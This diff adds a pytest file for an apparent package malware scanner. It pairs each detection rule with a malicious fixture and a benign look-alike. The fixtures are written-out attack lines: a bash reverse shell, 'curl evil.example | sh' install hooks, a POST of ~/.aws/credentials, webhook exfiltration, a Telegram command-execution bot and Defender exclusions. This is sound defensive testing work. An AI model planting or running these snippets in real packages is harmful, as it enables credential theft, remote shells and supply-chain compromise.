@@ -1,0 +1,259 @@
+"""Every static and metadata rule fires on a malicious fixture and stays quiet on a benign one
+that looks alike (run through the real static pass and the verdict, as analyze() does).
+
+TEST FIXTURES, NOT MALWARE: the snippets only reproduce attack patterns as source text."""
+
+from __future__ import annotations
+
+import base64
+import time
+
+import pytest
+
+from verdict.fixtures import composer_bytes, crate_bytes, gem_bytes, npm, sdist
+from pkgtrace.model import Ecosystem
+from pkgtrace.verdict import load_rules
+from pkgtrace.verdict.metadata import popular
+
+P, N = Ecosystem.PYPI, Ecosystem.NPM
+SETUP_TAIL = "\nfrom setuptools import setup\nsetup(name='pkg', version='1.0.0')\n"
+
+
+def setup_py(body: str) -> dict[str, str]:
+    return {"setup.py": body + SETUP_TAIL, "pkg/__init__.py": ""}
+
+
+def module(body: str, path: str = "pkg/core.py") -> dict[str, str]:
+    return {"setup.py": SETUP_TAIL, "pkg/__init__.py": "", path: body}
+
+
+def b64(s: str) -> str:
+    return base64.b64encode(s.encode()).decode()
+
+
+LONG_B64 = b64("x" * 400)
+REQUESTS_SUMMARY = popular("pypi")["requests"]
+
+# (rule, malicious archive, benign look-alike archive); archives are (ecosystem, name, bytes, kw)
+CASES = [
+    ("STATIC-PY-DECODE-EXEC",
+     (P, "pkg", sdist("pkg", setup_py('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'))),
+     (P, "pkg", sdist("pkg", setup_py('import base64\nraw = base64.b64decode(BLOB)\nexec(open("pkg/version.py").read())')))),
+    ("STATIC-PY-EXEC-REMOTE",
+     (P, "pkg", sdist("pkg", module("exec(__import__('requests').get('http://evil.example/p').text)"))),
+     (P, "pkg", sdist("pkg", module("import requests\nr = requests.get(url)\nexec(compile(src, 'f', 'exec'))")))),
+    ("STATIC-PY-EXEC-OBFUSCATED",
+     (P, "pkg", sdist("pkg", module(r'exec("\x70\x72\x69\x6e\x74\x28\x31\x29\x0a\x0a")'))),
+     (P, "pkg", sdist("pkg", module('exec("x = 1")')))),
+    ("STATIC-PY-DYNAMIC-BUILTINS",
+     (P, "pkg", sdist("pkg", module("f = getattr(__builtins__, 'ex' + 'ec')"))),
+     (P, "pkg", sdist("pkg", module("f = getattr(__builtins__, 'open')")))),
+    ("STATIC-JS-DECODE-EXEC",
+     (N, "jspkg", npm("jspkg", {"index.js": 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())'})),
+     (N, "jspkg", npm("jspkg", {"index.js": 'const s = Buffer.from(x, "base64").toString();\nJSON.parse(s);'}))),
+    ("STATIC-RB-DECODE-EXEC",
+     (Ecosystem.RUBYGEMS, "rbpkg", gem_bytes("rbpkg", "1.0.0", {"lib/rbpkg.rb": b'eval(Base64.decode64("cHV0cyAx"))'})),
+     (Ecosystem.RUBYGEMS, "rbpkg", gem_bytes("rbpkg", "1.0.0", {"lib/rbpkg.rb": b"data = Base64.decode64(str)\nputs data"}))),
+    ("STATIC-PHP-DECODE-EXEC",
+     (Ecosystem.PACKAGIST, "acme/pkg", composer_bytes("acme/pkg", {"src/a.php": b'<?php eval(base64_decode("ZWNobyAxOw=="));'})),
+     (Ecosystem.PACKAGIST, "acme/pkg", composer_bytes("acme/pkg", {"src/a.php": b"<?php $x = base64_decode($in); echo $x;"}))),
+    ("STATIC-RS-BUILD-DECODE-EXEC",
+     (Ecosystem.CRATES, "rspkg", crate_bytes("rspkg", "1.0.0", {"build.rs": b'use std::process::Command;\nfn main() { let c = base64::decode("Y3VybA==").unwrap(); Command::new(String::from_utf8(c).unwrap()).status().unwrap(); }'})),
+     (Ecosystem.CRATES, "rspkg", crate_bytes("rspkg", "1.0.0", {"build.rs": b'use std::process::Command;\nfn main() { Command::new("cc").arg("x.c").status().unwrap(); }'}))),
+    ("STATIC-POWERSHELL-HIDDEN",
+     (P, "pkg", sdist("pkg", setup_py("import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A')"))),
+     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.run(["powershell", "-Command", "Get-ChildItem"])')))),
+    ("STATIC-REVERSE-SHELL",
+     (P, "pkg", sdist("pkg", module('import os\nos.system("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")'))),
+     (P, "pkg", sdist("pkg", module("import os\nos.system(\"bash -c 'echo hi'\")")))),
+    ("STATIC-DOWNLOAD-EXECUTE",
+     (P, "pkg", sdist("pkg", setup_py('import os\nos.system("curl -s http://evil.example/x.sh | sh")'))),
+     # a package that legitimately downloads its prebuilt binary in setup.py
+     (P, "pkg", sdist("pkg", setup_py('import urllib.request\nurllib.request.urlretrieve("https://github.com/acme/tool/releases/download/v1/tool-linux.tar.gz", "tool.tar.gz")')))),
+    ("STATIC-SHELL-PIPE-DOWNLOAD",
+     (P, "pkg", sdist("pkg", module('import subprocess\nsubprocess.call(["sh", "-c", "curl http://evil.example/x | sh"])'))),
+     (P, "pkg", sdist("pkg", module('HINT = "install the CLI with: curl -sSL https://install.example.org | sh"\nprint(HINT)')))),
+    ("STATIC-DOWNLOAD-EXECUTE-ANYWHERE",
+     (P, "pkg", sdist("pkg", module('import subprocess, urllib.request\nurllib.request.urlretrieve("http://evil.example/a.exe", "a.exe")\nsubprocess.Popen("a.exe")'))),
+     (P, "pkg", sdist("pkg", module('INSTALLER = "https://example.org/setup.exe"  # shown to users in the docs')))),
+    ("STATIC-SYSINFO-EXFIL",
+     (P, "pkg", sdist("pkg", setup_py('import requests, socket\nrequests.post("https://collector.example/h", data={"h": socket.gethostname()})'))),
+     (P, "pkg", sdist("pkg", setup_py('import os, socket\nprint("building on", socket.gethostname(), os.environ.get("CC"))')))),
+    ("STATIC-INSTALL-HOOK-NETWORK",
+     (P, "pkg", sdist("pkg", setup_py('import requests\nrequests.get("https://stats.example/ping")'))),
+     (P, "pkg", sdist("pkg", module('import requests\ndef ping():\n    return requests.get("https://stats.example/ping")')))),
+    ("STATIC-DEP-CONFUSION-PROBE",
+     (P, "pkg", sdist("pkg", setup_py('import requests\nrequests.get("http://x1y2z3.oastify.com/p")'))),
+     (P, "pkg", sdist("pkg", setup_py('URL = "https://webhooks.example.com/site"')))),
+    ("STATIC-WEBHOOK-EXFIL",
+     (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://discord.com/api/webhooks/123456/abcdef", json=d)'))),
+     (P, "pkg", sdist("pkg", module('DOCS = "https://discord.com/developers/docs/resources/webhook"')))),
+    ("STATIC-PASTE-URL",
+     (P, "pkg", sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": 'from urllib.request import urlopen\ndata = urlopen("https://pastebin.com/raw/abcd").read()'})),
+     (P, "pkg", sdist("pkg", module('API = "https://pastebin.com/api/api_post.php"  # a pastebin client', "pkg/client.py")))),
+    ("STATIC-HARDCODED-IP-URL",
+     (P, "pkg", sdist("pkg", module('import requests\nrequests.get("http://203.0.113.7:8080/p")'))),
+     (P, "pkg", sdist("pkg", {**module('import requests\nrequests.get("http://127.0.0.1:8080/health")'),
+                              "tests/test_net.py": 'URL = "http://203.0.113.7/"'}))),
+    ("STATIC-BROWSER-WALLET-PATHS",
+     (P, "pkg", sdist("pkg", module('import os\nDB = os.path.join(profile, "Login Data")\nLS = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")\nX = "discord/Local Storage/leveldb"'))),
+     (P, "pkg", sdist("pkg", module('CHROME = "/usr/bin/google-chrome"\nPROFILE_DIR = "~/.config/chromium"')))),
+    ("STATIC-DEV-CREDENTIAL-PATHS",
+     (P, "pkg", sdist("pkg", module('import os\nkeys = open(os.path.expanduser("~/.aws/credentials")).read()'))),
+     # a CLI that reads its own configuration under ~/.config
+     (P, "pkg", sdist("pkg", module('import os\ncfg = open(os.path.expanduser("~/.config/mytool/config.toml")).read()')))),
+    ("STATIC-PERSISTENCE-PATHS",
+     (P, "pkg", sdist("pkg", module('import os\nopen(os.path.expanduser("~/.bashrc"), "a").write(line)'))),
+     (P, "pkg", sdist("pkg", module('import os\nopen(os.path.expanduser("~/.config/mytool/rc"), "a").write(line)')))),
+    ("STATIC-CHROME-EXTENSION-INJECT",
+     (P, "pkg", sdist("pkg", module('if shortcut.TargetPath.endswith("chrome.exe"):\n    shortcut.Arguments = "--load-extension=" + ext'))),
+     (P, "pkg", sdist("pkg", module('import subprocess\nsubprocess.run(["chrome.exe", "--headless", "--load-extension=" + ext])')))),
+    ("STATIC-WINDOWS-DEFENDER-EVASION",
+     (P, "pkg", sdist("pkg", module("import os\nos.system('powershell Add-MpPreference -ExclusionPath C:\\\\')"))),
+     (P, "pkg", sdist("pkg", module("# Windows Defender real-time scanning may slow down builds\nWARN = 'defender'")))),
+    ("STATIC-PYARMOR",
+     (P, "pkg", sdist("pkg", module("from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')"))),
+     (P, "pkg", sdist("pkg", module("# this project is not protected with pyarmor\nX = 1")))),
+    ("STATIC-NONASCII-IDENTIFIERS",
+     (P, "pkg", sdist("pkg", module("馬女水女口目人馬鳥月 = 'print(1)'\nexec(馬女水女口目人馬鳥月)"))),
+     (P, "pkg", sdist("pkg", module("données_utilisateur = 1\n名前 = 'x'\nresult = eval('1 + 1')")))),
+    ("STATIC-OBFUSCATED-INSTALL-CODE",
+     (P, "pkg", sdist("pkg", setup_py("exec(" + repr("x = 1;" * 900) + ")"))),
+     (P, "pkg", sdist("pkg", setup_py("CLASSIFIERS = " + repr(["Topic :: Utilities"] * 300))))),
+    ("STATIC-JS-PACKED-INSTALL",
+     (N, "jspkg", npm("jspkg", {"install.js": "".join(f"var _0x{i:04x}=_0x{i + 1:04x}(0x{i:x});" for i in range(4096, 4200)), "index.js": ""},
+                      scripts={"postinstall": "node install.js"})),
+     # a minified bundle shipped as the library itself, and an ordinary install script
+     (N, "jspkg", npm("jspkg", {"install.js": "const fs = require('fs');\nfs.mkdirSync('cache', {recursive: true});",
+                                "index.js": "".join(f"var _0x{i:04x}=_0x{i + 1:04x}(0x{i:x});" for i in range(4096, 4200))},
+                      scripts={"postinstall": "node install.js"}))),
+    ("STATIC-PY-MARSHAL-BLOB",
+     (P, "pkg", sdist("pkg", module("import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'" + "\\x78" * 20 + "')))"))),
+     (P, "pkg", sdist("pkg", module("import pickle\nstate = pickle.loads(payload)")))),
+    ("STATIC-NPM-INSTALL-SCRIPT-RISKY",
+     (N, "jspkg", npm("jspkg", {"index.js": ""}, scripts={"postinstall": "curl -s https://evil.example/x.sh | sh"})),
+     (N, "jspkg", npm("jspkg", {"index.js": "", "scripts/build.js": ""}, scripts={"postinstall": "node scripts/build.js"}))),
+    ("STATIC-COMPOSER-SCRIPT-RISKY",
+     (Ecosystem.PACKAGIST, "acme/pkg", composer_bytes("acme/pkg", {"src/a.php": b"<?php"}, {"scripts": {"post-install-cmd": "curl -s http://evil.example/x | sh"}})),
+     (Ecosystem.PACKAGIST, "acme/pkg", composer_bytes("acme/pkg", {"src/a.php": b"<?php"}, {"scripts": {"post-install-cmd": "php artisan optimize"}}))),
+    ("STATIC-PTH-EXEC",
+     (P, "pkg", sdist("pkg", {**setup_py(""), "pkg_hook.pth": "import os; exec(open('/tmp/x').read())"})),
+     (P, "pkg", sdist("pkg", {**setup_py(""), "pkg_paths.pth": "src\n"}))),
+    ("STATIC-SETUP-SUBPROCESS-SHELL",
+     (P, "pkg", sdist("pkg", setup_py('import os\nos.system("certutil -urlcache -f http://evil.example/a.exe a.exe")'))),
+     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.check_call(["cmake", ".."])')))),
+    ("STATIC-PY-EXEC-FETCHED",
+     (P, "pkg", sdist("pkg", module('import requests\ncode = requests.get("https://example.org/p").text\nexec(code)'))),
+     (P, "pkg", sdist("pkg", module('import requests\ncode = requests.get("https://example.org/p").status_code\nprint(code)')))),
+    ("STATIC-PY-IMPORT-DECODER-EXEC",
+     (P, "pkg", sdist("pkg", module("_ = lambda s: __import__('zlib').decompress(s)\nexec(_(BLOB))"))),
+     (P, "pkg", sdist("pkg", module("z = __import__('zlib')\ndata = z.decompress(BLOB)")))),
+    ("STATIC-PY-CHARCODE-NAMES",
+     (P, "pkg", sdist("pkg", module('f = globals()["".join([chr(c) for c in [95, 95, 98, 117]])]'))),
+     (P, "pkg", sdist("pkg", module("letters = [chr(c) for c in range(65, 91)]")))),
+    ("STATIC-DECODED-PAYLOAD",
+     (P, "pkg", sdist("pkg", module(f'CMD = "{b64("curl -s http://localhost/rev.sh | bash")}"'))),
+     (P, "pkg", sdist("pkg", module(f'GREETING = "{b64("hello world, this is plain text")}"')))),
+    ("STATIC-DISCORD-TOKEN-THEFT",
+     (P, "pkg", sdist("pkg", module(r'import re' + "\n" + r'tokens = re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)'))),
+     (P, "pkg", sdist("pkg", module(r'import re' + "\n" + r'parts = re.findall(r"[\w-]{4}\.[\w-]{6}", line)')))),
+    ("STATIC-TELEGRAM-DISCORD-RAT",
+     (P, "pkg", sdist("pkg", module("import telebot, subprocess\n@bot.message_handler()\ndef run(m):\n    bot.reply_to(m, subprocess.check_output(m.text, shell=True))"))),
+     (P, "pkg", sdist("pkg", module("import telebot\n@bot.message_handler()\ndef hello(m):\n    bot.reply_to(m, 'hi')")))),
+    ("STATIC-SECRET-EXFIL",
+     (P, "pkg", sdist("pkg", module('import requests\nrequests.post(url, json={"mnemonic": mnemonic})'))),
+     (P, "pkg", sdist("pkg", module('import requests\nrequests.post(rpc_url, json={"method": "eth_getBalance", "params": [address]})')))),
+    ("STATIC-WHITESPACE-HIDDEN-CODE",
+     (P, "pkg", sdist("pkg", module('VERSION = "1.0"' + " " * 200 + ";exec(payload)"))),
+     (P, "pkg", sdist("pkg", module('TABLE = "a' + " " * 200 + 'b"')))),
+    ("STATIC-INSTALL-PERSISTENCE",
+     (P, "pkg", sdist("pkg", setup_py('import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("alias ls=x")'))),
+     # a CLI that offers to install shell completion when the user asks it to
+     (P, "pkg", sdist("pkg", module('import os\ndef install_completion():\n    open(os.path.expanduser("~/.bashrc"), "a").write(COMPLETION)', "pkg/cli.py")))),
+    ("STATIC-DOWNLOAD-RUN-SCRIPT",
+     (P, "pkg", sdist("pkg", module('import requests, subprocess, sys\nr = requests.get(u)\nopen(p, "wb").write(r.content)\nsubprocess.Popen([sys.executable, p])'))),
+     (P, "pkg", sdist("pkg", module('import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "--version"])')))),
+    ("STATIC-CHMOD-RUN",
+     (P, "pkg", sdist("pkg", module('import os, urllib.request\nurllib.request.urlretrieve(u, "t")\nos.system("chmod +x t && ./t")'))),
+     (P, "pkg", sdist("pkg", module('import os\nos.system("chmod +x build.sh")')))),
+    ("STATIC-KEYLOGGER",
+     (P, "pkg", sdist("pkg", module("from pynput.keyboard import Listener\nimport pynput.keyboard"))),
+     (P, "pkg", sdist("pkg", module("import keyboard_layout\nLAYOUT = keyboard_layout.QWERTY")))),
+    ("STATIC-RUNTIME-PIP-INSTALL",
+     (P, "pkg", sdist("pkg", module('import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "psutil"])'))),
+     (P, "pkg", sdist("pkg", module('import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "--version"])')))),
+    ("STATIC-PY-DECODE-SHELL",
+     (P, "pkg", sdist("pkg", module("import base64, subprocess\nc = base64.b64decode(s).decode()\nsubprocess.Popen(c, shell=True)"))),
+     (P, "pkg", sdist("pkg", module('import base64, subprocess\nc = base64.b64decode(s)\nprint(c)\nsubprocess.run(["ls"])')))),
+    ("STATIC-WINDOWS-DROPPER",
+     (P, "pkg", sdist("pkg", module('import os, requests\nd = os.getenv("APPDATA")\nr = requests.get(u)\nopen(d + "/x.exe", "wb").write(r.content)\nos.startfile(d + "/x.exe")'))),
+     (P, "pkg", sdist("pkg", module('import os\nd = os.getenv("APPDATA")\nconfig = os.path.join(d, "mytool", "config.ini")')))),
+    ("STATIC-WRITE-DECODED-BLOB",
+     (P, "pkg", sdist("pkg", module(f'import base64\nf.write(base64.b64decode("{LONG_B64}"))'))),
+     (P, "pkg", sdist("pkg", module("import base64\nf.write(base64.b64decode(data))")))),
+    ("STATIC-WRITE-SITE-PACKAGES",
+     (P, "pkg", sdist("pkg", module('import os, site\np = site.getsitepackages()[0]\nopen(os.path.join(p, "x.pth"), "w").write("import x")'))),
+     (P, "pkg", sdist("pkg", module("import site\nprint(site.getsitepackages())")))),
+    ("STATIC-ENCODED-URL",
+     (P, "pkg", sdist("pkg", module(f'U = "{b64("https://bit.ly/3example")}"'))),
+     (P, "pkg", sdist("pkg", module(f'U = "{b64("a plain sentence of text")}"')))),
+    # ---- metadata ----
+    ("META-TYPOSQUAT",
+     (P, "reqeusts", sdist("reqeusts", module("X = 1"))),
+     (P, "requests", sdist("requests", module("X = 1")))),
+    ("META-EMPTY-DESCRIPTION",
+     (P, "pkg", sdist("pkg", module("X = 1"), summary="test")),
+     (P, "pkg", sdist("pkg", module("X = 1"), summary="Test helpers for Django views"))),
+    ("META-COPIED-DESCRIPTION",
+     (P, "fancyhttp", sdist("fancyhttp", module("X = 1"), summary=REQUESTS_SUMMARY)),
+     (P, "requests", sdist("requests", module("X = 1"), summary=REQUESTS_SUMMARY))),
+    ("META-NEW-INSTALL-HOOK",
+     (N, "jspkg", npm("jspkg", {"index.js": "", "setup.js": ""}, scripts={"postinstall": "node setup.js"}),
+      {"metadata": {"previous_version": "0.9.0", "previous_had_install_hook": False}}),
+     (N, "jspkg", npm("jspkg", {"index.js": "", "setup.js": ""}, scripts={"postinstall": "node setup.js"}),
+      {"metadata": {"previous_version": "0.9.0", "previous_had_install_hook": True}})),
+    ("META-SINGLE-NEW-RELEASE",
+     (P, "pkg", sdist("pkg", module("X = 1")),
+      {"metadata": {"release_count": 1, "first_release": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())}}),
+     (P, "pkg", sdist("pkg", module("X = 1")), {"metadata": {"release_count": 40, "first_release": "2015-01-01T00:00:00Z"}})),
+    ("META-SHADOWS-POPULAR-MODULE",
+     (P, "netutils-extra", sdist("netutils-extra", {"setup.py": SETUP_TAIL, "requests/__init__.py": "X = 1"})),
+     (P, "requests", sdist("requests", {"setup.py": SETUP_TAIL, "requests/__init__.py": "X = 1"}))),
+    ("COMBO-TYPOSQUAT-INSTALL-NETWORK",
+     (P, "reqeusts", sdist("reqeusts", setup_py('import requests\nrequests.get("https://stats.example/ping")'))),
+     (P, "reqeusts", sdist("reqeusts", setup_py("import os\nprint(os.getcwd())")))),
+    ("COMBO-INSTALL-NETWORK-CREDENTIALS",
+     (P, "pkg", sdist("pkg", setup_py('import os, requests\nrequests.post("https://stats.example/c", data=open(os.path.expanduser("~/.aws/credentials")).read())'))),
+     (P, "pkg", sdist("pkg", setup_py('import os, requests\nrequests.get("https://stats.example/ping")\ncfg = os.path.expanduser("~/.config/pkg/config.toml")')))),
+]
+
+STATIC_FAMILIES = ("static", "metadata")
+
+
+def _case_ids():
+    return [c[0] for c in CASES]
+
+
+def test_every_static_and_metadata_rule_has_a_case():
+    rules = {r.id for r in load_rules() if r.family in STATIC_FAMILIES}
+    assert rules - {c[0] for c in CASES} == set(), "rules without a malicious/benign test case"
+
+
+def _judge(judged, spec):
+    eco, name, data, *rest = spec
+    return judged(data, eco, name, **(rest[0] if rest else {}))
+
+
+@pytest.mark.parametrize("rule,malicious,benign", CASES, ids=_case_ids())
+def test_rule_fires_on_malicious_and_not_on_lookalike(judged, rule, malicious, benign):
+    bad = _judge(judged, malicious)
+    assert rule in bad["rules_fired"], bad["findings"]
+    finding = next(f for f in bad["findings"] if f["rule"] == rule)
+    assert finding["message"] and finding["severity"] in ("low", "medium", "high", "critical")
+    if finding["source"] == "static" and "combines" not in finding["evidence"]:
+        assert finding["evidence"].get("file")          # code evidence names the file…
+        if "role" in finding["evidence"]:               # a code finding…
+            assert finding["evidence"]["line"] >= 1     # …gives the line and an excerpt
+            assert finding["evidence"]["excerpt"]
+    good = _judge(judged, benign)
+    assert rule not in good["rules_fired"], good["findings"]
